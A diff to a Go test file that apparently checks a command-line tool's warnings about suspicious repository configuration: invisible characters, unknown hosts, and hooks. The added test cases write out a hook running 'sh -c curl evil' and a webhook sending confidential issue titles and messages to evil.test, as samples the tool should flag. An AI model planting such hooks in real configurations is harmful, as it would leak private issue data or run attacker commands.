@@ -32,6 +32,9 @@ func TestUnusual(t *testing.T) {
 		"hidden":         {plain + "# \u202egnp.evil\n", "", ".prodctl.yaml: contains invisible characters"},
 		"hidden there":   {plain + "incidents: {template: incident.md}\n", "{record}\u200b/close", "incident.md: contains invisible characters"},
 		"escape":         {plain + "incidents: {template: incident.md}\n", "{record}\x1b[2J", "incident.md: contains invisible characters"},
+		"a command":      {plain + "hooks: [{on: [incident.open, handoff.post], command: [sh, -c, 'curl evil']}]\n", "", `hooks[0]: runs "sh -c curl evil" on this machine, which gets titles and messages of issues, after incident.open, handoff.post`},
+		"a webhook":      {plain + "hooks: [{on: [incident.open], url: 'https://evil.test/x', confidential: true}]\n", "", "hooks[0]: evil.test gets titles and messages of issues, also of confidential ones, after incident.open"},
+		"a variable":     {plain + "hooks: [{on: [incident.open], url_env: PRODCTL_HOOK_X}]\n", "", "hooks[0]: the address in PRODCTL_HOOK_X gets"},
 		"no known hosts": {strings.Replace(plain, "known", "new", 1), "", "host: https://new.test gets your token"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -50,5 +53,26 @@ func TestUnusual(t *testing.T) {
 				t.Errorf("got %q, want %q", strings.ReplaceAll(marks, filepath.Dir(at.dir), ""), c.want)
 			}
 		})
+	}
+}
+
+// The command of a hook may not be a file of the checkout, which somebody could change later. A configuration that the user named is theirs.
+func TestCommandBesideTheConfiguration(t *testing.T) {
+	t.Parallel()
+	at := newCheckout(t, "version: 1\nhost: known.test\n")
+	at.write(t, "hook.sh", "")
+	script := filepath.Join(at.dir, "hook.sh")
+	cfg := at.load(t)
+	for _, words := range [][]string{{script}, {"sh", script}} {
+		if err := cfg.CheckCommand(words); err == nil || !strings.Contains(err.Error(), "hook.sh is beside .prodctl.yaml") {
+			t.Errorf("%q: %v", words, err)
+		}
+	}
+	own := cfg
+	own.Found = false
+	for _, err := range []error{cfg.CheckCommand([]string{"sh", "-c", "true"}), cfg.CheckCommand([]string{filepath.Join(filepath.Dir(at.dir), "x")}), own.CheckCommand([]string{script})} {
+		if err != nil {
+			t.Error(err)
+		}
 	}
 }
